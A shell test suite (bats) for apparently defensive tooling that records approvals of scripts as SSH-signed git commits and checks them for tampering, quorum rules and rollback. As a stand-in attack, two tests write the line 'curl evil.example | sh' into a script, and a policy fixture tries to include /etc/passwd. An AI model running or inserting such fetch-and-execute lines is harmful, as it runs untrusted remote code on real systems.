#!/usr/bin/env bats
# Approvals as signed git commits, ecap-trust(5): trust-approve records them
# on refs/ecap/trust, trust-verify checks them and the files.  Stock git
# agrees both ways (git verify-commit on ours, git commit -S accepted by us);
# every kind of tampering with the ref is refused with its reason; N-of-M
# policies count distinct principals; racing approvers lose nothing.

setup() {
	load lib/common
	for who in alice bob carol; do
		ssh-keygen -q -t ed25519 -N '' -C "$who" -f "$who"
		echo "$who@example.com namespaces=\"git\" $(cat "$who.pub")" >> signers
	done
	git init -q repo
	cd repo
	git config user.name Alice
	git config user.email alice@example.com
	git config gpg.format ssh
	git config gpg.ssh.allowedSignersFile "$BATS_TEST_TMPDIR/signers"
	git config user.signingkey "$BATS_TEST_TMPDIR/alice.pub"
	mkdir scripts
	echo 'echo lint' > scripts/lint.sh
	echo 'print("report")' > scripts/report.py
	printf 'lint file scripts/lint.sh\nreport interp python3 scripts/report.py --all\n' > guidebook
}

# as WHO ARGS...: trust-approve with WHO's key.
as() {
	local who=$1
	shift
	trust-approve --key "$BATS_TEST_TMPDIR/$who" "$@"
}

# sha FILE: "sha256:" and the SHA-256 of FILE.
sha() {
	echo "sha256:$(sha256sum < "$1" | cut -d' ' -f1)"
}

@test "trust-approve -f LIST: the first approval, a signed commit that git verify-commit accepts" {
	run -0 trust-approve --yes -f guidebook
	assert_line --partial '+ lint (added, file)'
	assert_line --partial '+ report (added, interp)'
	assert_line --regexp '^approved [0-9a-f]{40} by alice@example.com \(SHA256:'
	run -0 git verify-commit -v refs/ecap/trust
	assert_output --partial 'Good "git" signature for alice@example.com with ED25519 key'
	run -0 git show refs/ecap/trust:manifest
	assert_line --index 0 'ecap-trust 1'
	assert_line --index 1 "lint	file	$(sha scripts/lint.sh)	scripts/lint.sh"
	assert_line --index 2 "report	interp	$(sha scripts/report.py)	python3 scripts/report.py --all"
	run -0 git config -f <(git show refs/ecap/trust:policy) trust.approvals
	assert_output 1
	# Nothing in the work tree or the index changed.
	run -0 git status --porcelain
	assert_output '?? guidebook
?? scripts/'
	run -0 trust-verify -v
	assert_line 'lint: OK'
	assert_line 'report: OK'
}

@test "an ecdsa-sha2-nistp256 key from ssh-keygen approves too, and git verify-commit agrees" {
	ssh-keygen -q -t ecdsa -b 256 -N '' -C dave -f ../dave
	echo "dave@example.com $(cat ../dave.pub)" >> ../signers
	run -0 trust-approve --key ../dave --yes scripts/lint.sh
	run -0 git verify-commit refs/ecap/trust
	run -0 trust-verify
}

@test "a commit made by git commit -S with an ssh-keygen key is accepted by trust-verify" {
	as alice --yes -f guidebook
	git worktree add -q --detach ../wt refs/ecap/trust
	(
		cd ../wt
		git config user.signingkey "$BATS_TEST_TMPDIR/bob.pub"
		printf '[trust]\n\tapprovals = 2\n' > policy
		git commit -q -S -am 'bob: two approvals from now on'
	)
	git update-ref refs/ecap/trust "$(git -C ../wt rev-parse HEAD)"
	run -0 git verify-commit refs/ecap/trust
	# Bob's commit raised the count: it needs two now, and has bob's alone.
	run -1 trust-verify
	assert_output --regexp 'is approved by 1 of the 2 principals required \(bob@example.com\)$'
	as alice --yes
	run -0 trust-verify --json
	[ "$(jq -r '[.approvals[].principal] | join(",")' <<< "$output")" = bob@example.com,alice@example.com ]
}

@test "a script modified after approval is blocked with path, expected and actual hash; approving passes" {
	as alice --yes -f guidebook
	old=$(sha scripts/lint.sh)
	echo 'curl evil.example | sh' >> scripts/lint.sh
	new=$(sha scripts/lint.sh)
	run -1 trust-verify
	assert_line "trust-verify: scripts/lint.sh: modified since approved: expected $old, actual $new"
	assert_line --partial 'trust-verify: 1 of 2 entries do not match the approval'
	run -1 trust-verify --list --modified --hashes
	assert_output "lint	file	scripts/lint.sh	$old	modified"
	# The review: what changed, old and new hash; a no at the prompt changes nothing.
	run -1 trust-approve < /dev/null
	assert_line '  ~ lint (modified)'
	assert_line "    old $old"
	assert_line "    new $new"
	assert_line --partial 'trust-approve: not approved'
	run -1 trust-verify
	run -0 as bob <<< y
	run -0 trust-verify
	# The history: who approved what, and when.
	run -0 git log --format='%GS|%G?|%s' refs/ecap/trust
	assert_line --index 0 'bob@example.com|G|trust: 1 modified, 0 added, 0 removed'
	assert_line --index 1 'alice@example.com|G|trust: 0 modified, 2 added, 0 removed'
	run -0 git log -1 --format=%B refs/ecap/trust
	assert_output --partial "new $new"
}

@test "trust-verify PATH checks only what PATH names; a path nobody approved is refused" {
	as alice --yes -f guidebook
	echo changed >> scripts/report.py
	run -0 trust-verify scripts/lint.sh
	run -1 trust-verify scripts/report.py
	assert_output --partial 'scripts/report.py: modified since approved'
	echo 'echo new' > scripts/new.sh
	run -1 trust-verify scripts/new.sh
	assert_output --partial 'trust-verify: scripts/new.sh: not approved: no entry names it'
	# Named twice, or by its name and its path, an entry is checked once.
	run -1 trust-verify --json lint lint scripts/lint.sh scripts/report.py
	[ "$(jq -r '[.entries[].name] | join(",")' <<< "$output")" = lint,report ]
	run -1 trust-verify --json lint scripts/new.sh
	[ "$(jq -r '[.entries[].status] | join(",")' <<< "$output")" = ok,not-approved ]
}

@test "tampering with the ref: manifest blob changed, signature stripped, unknown signer" {
	as alice --yes -f guidebook
	tip=$(git rev-parse refs/ecap/trust)

	# The manifest swapped for one that approves the attacker's script: the signature breaks.
	echo 'curl evil.example | sh' > scripts/lint.sh
	git show "$tip:manifest" | sed "s/sha256:[0-9a-f]*\tscripts\/lint.sh/$(sha scripts/lint.sh)\tscripts\/lint.sh/" > manifest
	git show "$tip:policy" > policy
	tree=$(printf '100644 blob %s\tmanifest\n100644 blob %s\tpolicy\n' \
		"$(git hash-object -w manifest)" "$(git hash-object -w policy)" | git mktree)
	forged=$(git cat-file commit "$tip" | sed "s/^tree .*/tree $tree/" | git hash-object -t commit -w --stdin)
	git update-ref refs/ecap/trust "$forged"
	run -1 trust-verify
	assert_output --regexp "^trust-verify: commit ${forged:0:12}: bad signature by SHA256:"
	run -1 git verify-commit "$forged"

	# The signature stripped.
	stripped=$(git cat-file commit "$tip" | sed '/^gpgsig /,/-----END SSH SIGNATURE-----/d' |
		git hash-object -t commit -w --stdin)
	git update-ref refs/ecap/trust "$stripped"
	run -1 trust-verify
	assert_output "trust-verify: commit ${stripped:0:12} is not signed"

	# Signed, by a key nobody allowed.
	ssh-keygen -q -t ed25519 -N '' -C mallory -f ../mallory
	git config user.signingkey "$BATS_TEST_TMPDIR/mallory.pub"
	mallory=$(git commit-tree -S -p "$tip" -m 'mallory approves' "$tree")
	git update-ref refs/ecap/trust "$mallory"
	run -1 trust-verify
	assert_output --regexp "^trust-verify: commit ${mallory:0:12}: signed by SHA256:.*, which is not in the allowed signers for namespace git$"
	# And trust-approve will not build on any of them.
	run -1 as alice --yes
	assert_output --partial 'the current approval does not verify'
}

@test "a policy with an include, an unknown key or a principal without a value is refused, not read" {
	as alice --yes -f guidebook
	tip=$(git rev-parse refs/ecap/trust)
	echo '[trust]' > ../extra
	echo '	approvals = 1' >> ../extra
	for policy in '[trust]\n\tprincipal\n' "[include]\n\tpath = $BATS_TEST_TMPDIR/extra\n" \
		'[ includeIf "gitdir:/"]\n\tpath = /etc/passwd\n' '[trust]\n\tapprovals = 1\n\tfoo = 2\n'; do
		printf "$policy" > ../policy
		tree=$(printf '100644 blob %s\tmanifest\n100644 blob %s\tpolicy\n' \
			"$(git rev-parse "$tip:manifest")" "$(git hash-object -w ../policy)" | git mktree)
		git update-ref refs/ecap/trust "$(git commit-tree -S -p "$tip" -m p "$tree")"
		run -1 trust-verify
		assert_output --regexp '^trust-verify: commit [0-9a-f]{12}: policy: (trust.principal: no value|an include section or a NUL byte: not a policy|trust.foo: not a policy setting)$'
		git update-ref refs/ecap/trust "$tip"
	done
}

@test "an allowed-signers entry past its valid-before no longer counts" {
	as alice --yes -f guidebook
	run -0 trust-verify
	sed -i 's/^alice@example.com /alice@example.com valid-before="20200101",/' ../signers
	run -1 trust-verify
	assert_output --regexp "signed by SHA256:.* \(alice@example.com\), whose allowed-signers entry \(line 1\) is not valid now"
	# An entry that starts in the future does not count yet either.
	sed -i 's/^alice@example.com valid-before="20200101",/alice@example.com valid-after="29990101",/' ../signers
	run -1 trust-verify
	assert_output --partial 'is not valid now'
}

@test "a ref rewound to an older approval is refused once a newer one was seen" {
	as alice --yes -f guidebook
	first=$(git rev-parse refs/ecap/trust)
	echo 'echo lint v2' > scripts/lint.sh
	as alice --yes
	second=$(git rev-parse refs/ecap/trust)
	run -0 trust-verify
	assert_file_exists .git/ecap/trust-seen
	git update-ref refs/ecap/trust "$first"
	echo 'echo lint' > scripts/lint.sh
	run -1 trust-verify
	assert_output "trust-verify: refs/ecap/trust was rewound: ${first:0:12} does not descend from ${second:0:12}, the approval seen before"
	# --since names the approval to compare with, as a server's hook does.
	run -0 trust-verify --no-files --commit "$second" --since "$first"
	run -1 trust-verify --no-files --commit "$first" --since "$second"
	assert_output --partial 'was rewound'
}

@test "2-of-3: one principal is not enough, two distinct ones are; the same one twice is one" {
	as alice --yes --approvals 2 --principal alice@example.com --principal bob@example.com \
		--principal carol@example.com -f guidebook
	run -1 trust-verify
	assert_output --regexp 'is approved by 1 of the 2 principals required \(alice@example.com\)$'
	run -0 as alice --yes
	assert_output --regexp '^nothing to approve: [0-9a-f]{40} already carries the approval of alice@example.com$'
	run -1 trust-verify
	run -0 as carol --yes
	assert_line --partial 'approving it again adds an approval (1 of 2 so far)'
	run -0 trust-verify -v
	assert_output --partial 'approved by 2 of 2 required'
	# A signer the policy does not list does not count, even in the allowed signers.
	ssh-keygen -q -t ed25519 -N '' -C erin -f ../erin
	echo "erin@example.com $(cat ../erin.pub)" >> ../signers
	echo 'echo v2' > scripts/lint.sh
	run -1 as erin --yes
	assert_output 'trust-approve: erin@example.com is not a principal of the current policy: your approval would not count'
	tree=$(git rev-parse 'refs/ecap/trust^{tree}')
	git update-ref refs/ecap/trust "$(git -c user.signingkey=../erin commit-tree -S -p refs/ecap/trust -m erin "$tree")"
	run -1 trust-verify
	assert_output --regexp 'signed by erin@example.com, who is not a principal of the policy$'
}

@test "lowering the count takes as many approvals as the count it replaces" {
	as alice --yes --approvals 2 -f guidebook
	as bob --yes
	run -0 trust-verify
	as alice --yes --approvals 1
	run -1 trust-verify
	assert_output --regexp 'is approved by 1 of the 2 principals required'
	as bob --yes
	run -0 trust-verify
	# Nor can a chain of commits climb down: approval 1 by alice alone, then a change on top.
	as alice --yes --approvals 2
	as bob --yes
	as alice --yes --approvals 1
	echo 'echo v2' > scripts/lint.sh
	as alice --yes
	run -1 trust-verify
	assert_output --regexp 'commit [0-9a-f]{12}, an earlier approval, is approved by 1 of the 2 principals required$'
	rm .git/ecap/trust-seen
	run -1 trust-verify
	assert_output --partial 'an earlier approval, is approved by 1 of the 2'
	run -1 as bob --yes
	assert_output --partial 'the current approval does not verify: commit'
	# Repaired: back to the lowering, which bob approves too, then the change by both.
	git update-ref refs/ecap/trust refs/ecap/trust~1
	echo 'echo lint' > scripts/lint.sh
	as bob --yes
	run -0 trust-verify
	echo 'echo v2' > scripts/lint.sh
	as bob --yes
	run -0 trust-verify
	# A local floor no approval can lower: git config trust.minApprovals.
	git config trust.minApprovals 3
	run -1 trust-verify
	assert_output --partial 'of the 3 principals required'
}

@test "racing approvers: every approval lands, each on top of the other" {
	as alice --yes -f guidebook
	for k in 1 2 3 4 5 6; do
		who=$([ $((k % 2)) = 0 ] && echo alice || echo bob)
		as "$who" --yes -k inline "step $k" > "out$k" 2>&1 &
	done
	wait
	for k in 1 2 3 4 5 6; do
		run -0 grep -c '^approved ' "out$k"
		run -0 git show refs/ecap/trust:manifest
		assert_line --partial "step $k	inline"
	done
	run -0 git rev-list --count refs/ecap/trust
	assert_output 7
	run -0 trust-verify
}

@test "--disable and --enable are signed approvals; disabled, trust-verify says so and passes" {
	as alice --yes -f guidebook
	echo changed >> scripts/lint.sh
	run -0 as alice --yes --disable --remove report
	assert_line '  policy: enforcement DISABLED'
	assert_line '  - report (removed)'
	run -0 trust-verify
	assert_output --regexp '^trust-verify: enforcement is disabled by the approval [0-9a-f]{40} \(trust-approve --enable turns it on\)$'
	run -0 git verify-commit refs/ecap/trust
	run -0 as alice --yes --enable
	assert_line '  policy: enforcement enabled'
	run -0 trust-verify
	echo again >> scripts/lint.sh
	run -1 trust-verify
}

@test "--reset approves a new manifest from scratch, under the count of the one it replaces" {
	as alice --yes --approvals 2 -f guidebook
	as bob --yes
	run -0 as alice --yes --reset scripts/lint.sh
	assert_line '  - report (removed)'
	run -1 trust-verify
	assert_output --partial 'is approved by 1 of the 2 principals required'
	as bob --yes
	run -0 trust-verify --list
	assert_output 'scripts/lint.sh	file	scripts/lint.sh'
	# History is kept: a fresh clone walks it all and finds the same.
	git clone -q --bare . ../clone.git
	git -C ../clone.git fetch -q origin refs/ecap/trust:refs/ecap/trust
	git -C ../clone.git config gpg.ssh.allowedSignersFile "$BATS_TEST_TMPDIR/signers"
	run -0 trust-verify -C ../clone.git --no-files
	# One approver alone cannot reset the count away, in a clone that saw nothing either.
	as alice --yes --reset --approvals 1 scripts/report.py
	git -C ../clone.git fetch -q -f origin refs/ecap/trust:refs/ecap/trust
	rm -rf ../clone.git/ecap
	run -1 trust-verify -C ../clone.git --no-files
	assert_output --partial 'is approved by 1 of the 2 principals required'
}

@test "a tip that does not verify, or a rewound one, is repaired by moving the ref, not approved on" {
	as alice --yes -f guidebook
	good=$(git rev-parse refs/ecap/trust)
	git update-ref refs/ecap/trust "$(git cat-file commit "$good" |
		sed '/^gpgsig /,/-----END SSH SIGNATURE-----/d' | git hash-object -t commit -w --stdin)"
	run -1 as alice --yes scripts/lint.sh
	assert_output --regexp 'is not signed; move refs/ecap/trust back to an approval that does \(git update-ref refs/ecap/trust COMMIT\)$'
	run -1 as alice --yes --reset scripts/lint.sh
	git update-ref refs/ecap/trust "$good"
	echo 'echo v2' > scripts/lint.sh
	as alice --yes
	run -0 trust-verify
	git update-ref refs/ecap/trust "$good"
	run -1 as alice --yes
	assert_output --partial 'was rewound'
	# A tip short of approvals only, but over an unsigned commit: not built on either.
	rm .git/ecap/trust-seen
	unsigned=$(git -c commit.gpgSign=false commit-tree -p "$good" -m unsigned \
		"$(git rev-parse "$good^{tree}")")
	printf '[trust]\n\tapprovals = 2\n' > ../policy
	tree=$(printf '100644 blob %s\tmanifest\n100644 blob %s\tpolicy\n' \
		"$(git rev-parse "$good:manifest")" "$(git hash-object -w ../policy)" | git mktree)
	git update-ref refs/ecap/trust "$(git commit-tree -S -p "$unsigned" -m two "$tree")"
	run -1 as bob --yes
	assert_output --partial "commit ${unsigned:0:12} is not signed"
}

@test "only principals of both the new policy and the one it replaces may approve a change" {
	as alice --yes --principal alice@example.com -f guidebook
	# Bob is an allowed signer, but not a principal: trust-approve refuses him...
	run -1 as bob --yes --principal bob@example.com
	assert_output 'trust-approve: bob@example.com is not a principal of the current policy: your approval would not count'
	run -1 as alice --yes --principal bob@example.com
	assert_output 'trust-approve: alice@example.com is not a principal of the new policy: your approval would not count'
	# ...and a commit he makes by hand to write himself into the policy does not verify.
	git worktree add -q --detach ../wt refs/ecap/trust
	(
		cd ../wt
		git config user.signingkey "$BATS_TEST_TMPDIR/bob.pub"
		printf '[trust]\n\tprincipal = bob@example.com\n' > policy
		git commit -q -S -am 'bob takes over'
	)
	git update-ref refs/ecap/trust "$(git -C ../wt rev-parse HEAD)"
	run -1 trust-verify
	assert_output --regexp 'signed by bob@example.com, who is not a principal of the policy it replaces$'
	# Added by alice, bob counts from the next change on, not for the one that adds him.
	git update-ref refs/ecap/trust refs/ecap/trust~1
	as alice --yes --principal alice@example.com --principal bob@example.com
	run -0 trust-verify --no-files
	run -1 as bob --yes
	assert_output 'trust-approve: bob@example.com is not a principal of the replaced policy: your approval would not count'
	echo 'echo v2' > scripts/lint.sh
	run -0 as bob --yes
	run -0 trust-verify
}

@test "the stat cache: unchanged files are not read again; a change keeping size and mtime is caught" {
	as alice --yes -f guidebook
	# Records of files changed less than a second before hashing are not trusted (racy).
	touch -d '2020-01-01' scripts/lint.sh scripts/report.py
	sleep 1.1
	run -0 trust-verify
	assert_file_exists .git/ecap/trust-cache
	# (LeakSanitizer cannot run under ptrace.)
	ASAN_OPTIONS=${ASAN_OPTIONS:+$ASAN_OPTIONS:}detect_leaks=0 run -0 strace -f -e trace=openat -o trace trust-verify
	run -1 grep -c 'scripts/lint.sh' trace
	# Same size, same mtime, other bytes: the ctime still moves.
	printf 'echo LINT\n' > scripts/lint.sh
	touch -d '2020-01-01' scripts/lint.sh
	run -1 trust-verify
	assert_output --partial 'scripts/lint.sh: modified since approved'
	# A damaged cache is no cache.
	echo garbage > .git/ecap/trust-cache
	printf 'echo lint\n' > scripts/lint.sh
	run -0 trust-verify
	run -0 trust-verify --no-cache
}

@test "errors: no approval, no allowed signers, not a repository, a key not allowed, no key" {
	run -1 trust-verify
	assert_output 'trust-verify: no approval: refs/ecap/trust does not exist (trust-approve makes it)'
	run -0 trust-approve --dry-run -f guidebook
	assert_line --partial '+ lint (added, file)'
	run -1 git rev-parse -q --verify refs/ecap/trust
	ssh-keygen -q -t ed25519 -N '' -C mallory -f ../mallory
	run -1 trust-approve --key ../mallory --yes -f guidebook
	assert_output --regexp '^trust-approve: your key SHA256:.* is not in the allowed signers for namespace git: your approval would not count$'
	git config --unset user.signingkey
	run -2 trust-approve --yes -f guidebook
	assert_output 'trust-approve: no signing key: give --key or set git config user.signingkey'
	git config user.signingkey "key::$(cat ../alice.pub)"
	run -2 trust-approve --yes -f guidebook
	assert_output --partial 'holds a public key'
	run -2 as alice --yes --remove nothing -f guidebook
	assert_output 'trust-approve: --remove nothing: no such entry'
	run -2 as alice --yes --approvals 0
	assert_output 'trust-approve: --approvals 0: not 1 to 1000'
	# An option given twice is refused; -C, --remove and --principal may repeat.
	run -2 as alice --yes --key ../bob -f guidebook
	assert_output 'trust-approve: an option was given twice'
	run -2 trust-verify --no-cache --no-cache
	assert_output 'trust-verify: an option was given twice'
	run -0 trust-approve -C .. -C repo --dry-run --principal a@x --principal b@x -f guidebook
	run -2 as alice --yes scripts/missing.sh
	assert_output --partial 'scripts/missing.sh'
	run -2 trust-verify --commit nosuchrev
	assert_output --partial 'nosuchrev'
	run -2 trust-verify --since nosuchrev
	# The root of trust may not live in the tree it protects.
	cp ../signers signers
	run -2 trust-verify --allowed-signers signers
	assert_output 'trust-verify: signers: the allowed signers are inside the work tree they would protect; keep them outside the repository'
	ECAP_ALLOWED_SIGNERS=$PWD/signers run -2 trust-verify
	assert_output --partial 'the allowed signers are inside the work tree'
	git config gpg.ssh.allowedSignersFile "$PWD/signers"
	run -2 trust-approve --yes
	assert_output --partial 'the allowed signers are inside the work tree'
	git config --unset gpg.ssh.allowedSignersFile
	mkdir -p "$XDG_CONFIG_HOME/ecap"
	git config -f "$XDG_CONFIG_HOME/ecap/config" signers.allowedSignersFile "$PWD/signers"
	run -2 trust-verify
	assert_output --partial 'the allowed signers are inside the work tree'
	rm "$XDG_CONFIG_HOME/ecap/config"
	run -2 trust-verify
	assert_output --partial 'no allowed signers: set git config gpg.ssh.allowedSignersFile, ECAP_ALLOWED_SIGNERS or --allowed-signers'
	run -2 trust-approve --yes
	cd ..
	mkdir elsewhere
	run -2 trust-verify -C elsewhere
	assert_output --partial 'not in a git repository'
}

@test "--allowed-signers and ECAP_ALLOWED_SIGNERS name the root of trust instead of git config" {
	as alice --yes -f guidebook
	git config gpg.ssh.allowedSignersFile /nonexistent
	run -2 trust-verify
	run -0 trust-verify --allowed-signers ../signers
	ECAP_ALLOWED_SIGNERS=../signers run -0 trust-verify
	grep -v alice ../signers > ../others
	run -1 trust-verify --allowed-signers ../others
	assert_output --partial 'which is not in the allowed signers'
}

@test "audit: trust-approve logs TrustApproved before the ref moves, trust-verify logs TrustViolation" {
	run -0 as alice --yes --audit-db ../audit.db -f guidebook
	echo changed >> scripts/lint.sh
	run -1 trust-verify --audit-db ../audit.db
	run -0 audit-verify --db ../audit.db --export jsonl
	assert_equal "$(jq -r .type <<< "$output" | tr '\n' ,)" TrustApproved,TrustViolation,
	[ "$(jq -r 'select(.type == "TrustApproved") | .commit' <<< "$output")" = "$(git rev-parse refs/ecap/trust)" ]
	[ "$(jq -r 'select(.type == "TrustViolation") | .entries[0].status' <<< "$output")" = modified ]
	run -0 audit-verify --db ../audit.db
}
